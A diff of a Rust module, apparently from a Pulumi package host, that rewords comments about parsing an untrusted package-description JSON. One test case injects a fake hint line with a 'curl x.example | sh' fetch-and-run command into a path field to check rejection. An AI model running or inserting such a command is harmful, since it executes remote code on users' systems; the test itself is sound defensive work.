@@ -1,7 +1,7 @@
-//! The parameter value: the small JSON document that says what a package is, wherever Pulumi keeps it: in a generated
+//! The parameter value: the small JSON document that describes a package, at all places of Pulumi: in a generated
 //! SDK, in a lock file, in a stack's state.
 //!
-//! It is what runs. Anything in it may have been written by somebody else, so it is read as untrusted input.
+//! It decides which code runs. Anything in it may have been written by an attacker, so it is read as untrusted input.
 
 use std::collections::{BTreeMap, BTreeSet};
 
@@ -16,7 +16,7 @@ use super::{Digest, SourceError, project};
 /// The format that this host reads and writes.
 const FORMAT: u64 = 1;
 
-/// What a package is.
+/// The description of a package.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ParameterValue {
     pub name: String,
@@ -30,7 +30,7 @@ pub struct ParameterValue {
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ComponentReference {
     pub digest: Digest,
-    /// Where the file was: relative to the project, or its name alone.
+    /// The file's path relative to the project, or its name alone.
     pub path: String,
 }
 
@@ -235,7 +235,7 @@ pub(super) fn flags(grants: &Grants, limits: &Limits) -> Vec<String> {
     net.chain(env).chain(insecure).chain(limits).collect()
 }
 
-/// The flag that lets certificates of a host be whatever they are.
+/// The flag that lets certificates of a host be of any kind.
 pub(super) fn insecure_flag(pattern: &HostPattern) -> String {
     format!("--allow-insecure-tls {}", quoted(&pattern.to_string()))
 }
@@ -310,7 +310,7 @@ mod tests {
             ),
             (text.replace("\"memory\"", "\"speed\""), "there is no limit"),
             (text.replace("TOKEN", "A=B"), "can have no such name"),
-            // What a text of others must not have in a message: a line of its own, or a megabyte.
+            // A foreign text must not add a line to a message, nor a megabyte.
             (
                 text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
                 "not a path inside the project",
@@ -347,7 +347,7 @@ mod tests {
             let cut = cut.min(whole.len());
             let rest = (cut + left_out).min(whole.len());
             let bytes = [&whole[..cut], &noise, &whole[rest..]].concat();
-            // What is understood is written, and understood again, as it is.
+            // A value that is understood is written, and understood again, as it is.
             if let Ok(value) = ParameterValue::parse(&bytes) {
                 proptest::prop_assert_eq!(ParameterValue::parse(&value.to_bytes()), Ok(value));
             }
